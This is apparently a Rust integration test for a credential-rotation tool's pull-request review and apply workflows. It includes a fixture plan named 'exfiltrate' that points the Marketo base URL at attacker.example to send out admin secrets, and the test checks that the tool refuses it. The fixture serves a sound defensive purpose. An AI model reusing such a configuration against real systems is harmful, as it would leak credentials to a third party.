//! The shipped pull-request workflows, run as written: `deploy/github/*.yml` and
//! `deploy/gitlab/*.yml` are what docs/pr-review.md shows (verbatim: checked here), every
//! relinker command they name exists, and the GitHub jobs' own scripts run, with GitHub's
//! expressions filled in, in a checkout laid out as the workflow makes it: the pull request's
//! changed plans are planned into one comment (a plan that fails keeps its place), the saved
//! plans it keeps render as reviewed, and after the merge exactly those are applied.

use std::collections::BTreeMap;
use std::path::Path;
use std::process::Output;

use serde_json::Value;

use crate::harness::{ADMIN_ID, ADMIN_SECRET, TestSandbox};
use crate::pg::TestPostgres;

const PLANS: &str = "deploy/github/relinker-plans.yml";
const APPLY: &str = "deploy/github/relinker-apply.yml";
const GITLAB: &str = "deploy/gitlab/relinker.gitlab-ci.yml";

/// What the workflows' `secrets.*` hold: the acme fixture's credentials.
const SECRETS: [(&str, &str); 6] = [
    ("MARKETO_CLIENT_ID", ADMIN_ID),
    ("MARKETO_CLIENT_SECRET", ADMIN_SECRET),
    (
        "SFDC_SYNC_CLIENT_ID",
        "5f0e4c1a-1111-4111-8111-000000005f5f",
    ),
    ("SFDC_SYNC_CLIENT_SECRET", "sandbox-secret-sfdc-K8v3"),
    (
        "REPORTING_CLIENT_ID",
        "7c2d9e4b-2222-4222-8222-000000007c7c",
    ),
    ("REPORTING_CLIENT_SECRET", "sandbox-secret-report-Xp91"),
];

/// A plan a pull request adds: Jane's API user renamed, on the runner's `acme-prod`.
const RENAME_PLAN: &str = "version: 1
name: rename-jane
instance: { provider: marketo, name: acme-prod }
services:
  - { name: salesforce-sync, client_id: '${env:SFDC_SYNC_CLIENT_ID}', client_secret: '${env:SFDC_SYNC_CLIENT_SECRET}' }
  - { name: reporting-export, client_id: '${env:REPORTING_CLIENT_ID}', client_secret: '${env:REPORTING_CLIENT_SECRET}' }
rotations:
  - rename:
      user: jane.doe@acme.example
      email: api.salesforce@acme.example
      first_name: Salesforce
      last_name: Integration
      temporary_user: relinker-temp@acme.example
      services: [salesforce-sync, reporting-export]
";

/// A plan a pull request adds that would send the admin secret elsewhere.
const FOREIGN_PLAN: &str = "version: 1
name: exfiltrate
instance:
  provider: marketo
  base_url: https://attacker.example
  client_id: '${env:MARKETO_CLIENT_ID}'
  client_secret: '${env:MARKETO_CLIENT_SECRET}'
services:
  - { name: salesforce-sync, client_id: '${env:SFDC_SYNC_CLIENT_ID}', client_secret: '${env:SFDC_SYNC_CLIENT_SECRET}' }
rotations:
  - relink: { services: [salesforce-sync], to: someone@acme.example }
";

fn yaml(path: &str) -> Value {
    let text = std::fs::read_to_string(path).unwrap();
    serde_saphyr::from_str(&text).unwrap_or_else(|e| panic!("{path} is not YAML: {e}"))
}

/// A GitHub step's script with the workflow's expressions filled in; an expression the test
/// does not know fails it, so the workflow cannot come to rely on one unseen.
fn expand(text: &str, context: &BTreeMap<&str, String>) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(start) = rest.find("${{") {
        out.push_str(&rest[..start]);
        let end = rest[start..].find("}}").expect("a closed expression") + start;
        let expression = rest[start + 3..end].trim();
        let value = context.get(expression).unwrap_or_else(|| {
            panic!("the workflow uses `{expression}`, which this test does not fill in")
        });
        out.push_str(value);
        rest = &rest[end + 2..];
    }
    out.push_str(rest);
    out
}

/// The `run:` of the step named `name` in `job`.
fn step_script<'a>(workflow: &'a Value, job: &str, name: &str) -> &'a str {
    workflow["jobs"][job]["steps"]
        .as_array()
        .unwrap()
        .iter()
        .find(|step| step["name"].as_str().is_some_and(|n| n.starts_with(name)))
        .unwrap_or_else(|| panic!("no step `{name}` in job `{job}`"))["run"]
        .as_str()
        .unwrap()
}

/// Runs a step's script as GitHub does (`bash --noprofile --norc -eo pipefail`), in `dir`, with
/// the job's environment and `relinker` on PATH.
async fn run_step(script: &str, dir: &Path, env: &BTreeMap<String, String>) -> Output {
    let bin = Path::new(env!("CARGO_BIN_EXE_relinker")).parent().unwrap();
    let mut command = tokio::process::Command::new("bash");
    command
        .args(["--noprofile", "--norc", "-eo", "pipefail", "-c", script])
        .current_dir(dir)
        .env_clear()
        .env("PATH", format!("{}:/usr/bin:/bin", bin.display()))
        .env("HOME", dir)
        .stdin(std::process::Stdio::null())
        .kill_on_drop(true);
    command.envs(env);
    command.output().await.expect("run the step")
}

fn git(dir: &Path, args: &[&str]) {
    let output = std::process::Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
        .args(args)
        .current_dir(dir)
        .output()
        .expect("git");
    assert!(output.status.success(), "git {args:?}: {output:?}");
}

fn text(output: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

#[test]
fn the_docs_show_the_shipped_workflows_and_every_command_they_name_exists() {
    let docs = std::fs::read_to_string("docs/pr-review.md").unwrap();
    for path in [PLANS, APPLY, GITLAB] {
        let file = std::fs::read_to_string(path).unwrap();
        assert!(
            docs.contains(&format!("```yaml\n{file}```")),
            "docs/pr-review.md does not show {path} as it is"
        );
        let parsed = yaml(path);
        let mut scripts = Vec::new();
        for (_, job) in parsed.as_object().unwrap() {
            for line in job["script"].as_array().into_iter().flatten() {
                scripts.extend(line.as_str());
            }
        }
        if let Some(jobs) = parsed["jobs"].as_object() {
            for job in jobs.values() {
                for step in job["steps"].as_array().into_iter().flatten() {
                    scripts.extend(step["run"].as_str());
                }
            }
        }
        let mut named = 0;
        for script in scripts {
            for (at, _) in script.match_indices("relinker ") {
                // A command, not a path or a name that ends in relinker (`acme/relinker`).
                if script[..at]
                    .chars()
                    .last()
                    .is_some_and(|c| !c.is_whitespace() && c != '(' && c != ';')
                {
                    continue;
                }
                let word: String = script[at + "relinker ".len()..]
                    .chars()
                    .take_while(|c| c.is_ascii_lowercase() || *c == '-')
                    .collect();
                let help = std::process::Command::new(env!("CARGO_BIN_EXE_relinker"))
                    .args([&word, "--help"])
                    .output()
                    .unwrap();
                assert!(
                    help.status.success(),
                    "{path} runs `relinker {word}`, which is no command"
                );
                named += 1;
            }
        }
        assert!(named >= 1, "{path} runs no relinker command");
    }
}

#[tokio::test]
async fn a_pull_requests_plans_are_commented_kept_and_applied_as_reviewed() {
    let Some(database) = TestPostgres::start().await else {
        return;
    };
    let sandbox = TestSandbox::start().await;
    let workspace = tempfile::tempdir().unwrap();
    let root = workspace.path();

    // The base branch's checkout: the runner configuration, as docs/pr-review.md writes it,
    // naming the sandbox as `acme-prod`.
    let docs = std::fs::read_to_string("docs/pr-review.md").unwrap();
    let start = docs.find("# relinker-runner.yaml").unwrap();
    let runner = &docs[start..start + docs[start..].find("```").unwrap()];
    let secrets_dir = root.join("run-secrets");
    std::fs::create_dir_all(&secrets_dir).unwrap();
    let runner = runner
        .replace(
            "https://123-ABC-456.mktorest.com",
            &sandbox.handle.base_url(),
        )
        .replace("/run/secrets/relinker", secrets_dir.to_str().unwrap());
    std::fs::create_dir_all(root.join("base/.github")).unwrap();
    std::fs::write(root.join("base/.github/relinker-runner.yaml"), &runner).unwrap();

    // The pull request's checkout: a plan already on the base branch (not planned again), and
    // two the pull request adds.
    let pr = root.join("pr");
    std::fs::create_dir_all(pr.join("plans")).unwrap();
    git(&pr, &["init", "-q", "-b", "main"]);
    std::fs::write(
        pr.join("plans/old.yaml"),
        FOREIGN_PLAN.replace("exfiltrate", "old"),
    )
    .unwrap();
    git(&pr, &["add", "."]);
    git(&pr, &["commit", "-q", "-m", "base"]);
    git(&pr, &["update-ref", "refs/remotes/origin/main", "HEAD"]);
    std::fs::write(pr.join("plans/rename-jane.yaml"), RENAME_PLAN).unwrap();
    std::fs::write(pr.join("plans/exfiltrate.yaml"), FOREIGN_PLAN).unwrap();
    git(&pr, &["add", "."]);
    git(&pr, &["commit", "-q", "-m", "the pull request"]);

    let workflow = yaml(PLANS);
    let mut context: BTreeMap<&str, String> = BTreeMap::from([
        ("github.workspace", root.display().to_string()),
        ("github.base_ref", "main".to_owned()),
    ]);
    let secret_names: Vec<String> = SECRETS
        .iter()
        .map(|(n, _)| format!("secrets.{n}"))
        .collect();
    for ((_, value), name) in SECRETS.iter().zip(&secret_names) {
        context.insert(name, (*value).to_owned());
    }
    let job_env = |workflow: &Value, job: &str, context: &BTreeMap<&str, String>| {
        workflow["jobs"][job]["env"]
            .as_object()
            .unwrap()
            .iter()
            .map(|(name, value)| (name.clone(), expand(value.as_str().unwrap(), context)))
            .collect::<BTreeMap<String, String>>()
    };
    let mut env = job_env(&workflow, "plan", &context);
    let outputs = root.join("github-output");
    env.insert("GITHUB_OUTPUT".into(), outputs.display().to_string());
    let script = expand(
        step_script(&workflow, "plan", "Plan every changed plan"),
        &context,
    );
    let planned = run_step(&script, &pr, &env).await;
    assert!(planned.status.success(), "{}", text(&planned));
    let requests = sandbox.requests().await;
    assert!(!requests.to_string().contains("attacker"), "{requests}");

    // One comment: the good plan, and the refused one in its place with its reason.
    let comment = std::fs::read_to_string(root.join("plan.md")).unwrap();
    assert!(
        comment.contains("### relinker plan `rename-jane`"),
        "{comment}"
    );
    assert!(
        comment.contains("### relinker plan `plans/exfiltrate.yaml`: not planned"),
        "{comment}"
    );
    assert!(comment.contains("(exit 2)"), "{comment}");
    assert!(comment.contains("attacker.example"), "{comment}");
    assert!(
        !comment.contains("`old`"),
        "an unchanged plan was planned: {comment}"
    );
    for (_, secret) in SECRETS {
        assert!(!comment.contains(secret), "a secret reached the comment");
    }
    assert_eq!(
        std::fs::read_to_string(&outputs).unwrap(),
        "failed=1\n",
        "a refused plan fails the job"
    );

    // The artifact renders as the comment showed it, from the file alone.
    let saved = pr.join("plans/rename-jane.saved.json");
    assert!(!pr.join("plans/exfiltrate.saved.json").exists());
    let show = tokio::process::Command::new(env!("CARGO_BIN_EXE_relinker"))
        .args([
            "show",
            "plans/rename-jane.saved.json",
            "--format",
            "markdown",
        ])
        .env(
            "RELINKER_RUNNER_CONFIG",
            root.join("base/.github/relinker-runner.yaml"),
        )
        .current_dir(&pr)
        .output()
        .await
        .unwrap();
    assert_eq!(show.status.code(), Some(0), "{}", text(&show));
    let shown = String::from_utf8_lossy(&show.stdout);
    assert!(
        comment.contains(shown.as_ref()),
        "show:\n{shown}\ncomment:\n{comment}"
    );

    // After the merge: the merged checkout (the same files, the runner configuration in
    // .github), the saved plans fetched beside their plan files, applied as reviewed.
    let merged = root.join("merged");
    std::fs::create_dir_all(merged.join("plans")).unwrap();
    std::fs::create_dir_all(merged.join(".github")).unwrap();
    std::fs::write(merged.join(".github/relinker-runner.yaml"), &runner).unwrap();
    std::fs::write(merged.join("plans/rename-jane.yaml"), RENAME_PLAN).unwrap();
    std::fs::copy(&saved, merged.join("plans/rename-jane.saved.json")).unwrap();
    let workflow = yaml(APPLY);
    context.insert("github.workspace", merged.display().to_string());
    context.insert("secrets.RELINKER_STATE", database.url());
    context.insert("github.token", "unused".to_owned());
    let mut env = job_env(&workflow, "apply", &context);
    env.insert("GITHUB_OUTPUT".into(), outputs.display().to_string());
    std::fs::write(&outputs, "").unwrap();
    let script = expand(step_script(&workflow, "apply", "Apply exactly"), &context);
    let applied = run_step(&script, &merged, &env).await;
    assert!(applied.status.success(), "{}", text(&applied));
    let result = std::fs::read_to_string(merged.join("result.md")).unwrap();
    // The rename waits for a person at the LaunchPoint relinks: exit 4, a success for the job.
    assert!(result.starts_with("### relinker apply: exit 4"), "{result}");
    assert_eq!(std::fs::read_to_string(&outputs).unwrap(), "code=4\n");
    let users = sandbox.state().await;
    assert!(
        users.to_string().contains("relinker-temp@acme.example"),
        "the reviewed plan's first step was applied: {users}"
    );

    // Live state moved on since the review: the same artifact is refused, nothing sent.
    let refused = run_step(&script, &merged, &env).await;
    assert!(refused.status.success(), "{}", text(&refused));
    let result = std::fs::read_to_string(merged.join("result.md")).unwrap();
    assert!(
        !result.starts_with("### relinker apply: exit 0"),
        "{result}"
    );
}
